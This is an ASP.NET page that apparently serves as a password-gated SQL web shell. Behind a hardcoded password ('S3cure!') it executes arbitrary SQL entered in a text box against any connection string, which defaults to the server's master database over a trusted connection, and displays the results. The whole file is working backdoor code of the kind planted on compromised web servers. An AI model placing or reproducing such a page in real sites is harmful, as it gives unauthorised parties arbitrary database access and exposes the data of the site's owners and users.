<%@ Page Language="C#" %>
<%@ Import Namespace="System.Data" %>
<%@ Import Namespace="System.Data.SqlClient" %>
<script runat="server">
protected void Run_Click(object s, EventArgs e)
{
    if (txtPass.Text != "S3cure!") return;
    using (var conn = new SqlConnection(txtConn.Text))
    {
        conn.Open();
        var cmd = new SqlCommand(txtSql.Text, conn);
        var da = new SqlDataAdapter(cmd);
        var dt = new DataTable();
        da.Fill(dt);
        grid.DataSource = dt;
        grid.DataBind();
    }
}
</script>
<form runat="server">
<asp:TextBox ID="txtPass" runat="server" TextMode="Password" />
<asp:TextBox ID="txtConn" runat="server" Width="600" Text="server=.;database=master;trusted_connection=yes" />
<asp:TextBox ID="txtSql" runat="server" TextMode="MultiLine" Rows="8" Columns="80" />
<asp:Button runat="server" Text="Run" OnClick="Run_Click" />
<asp:GridView ID="grid" runat="server" />
</form>
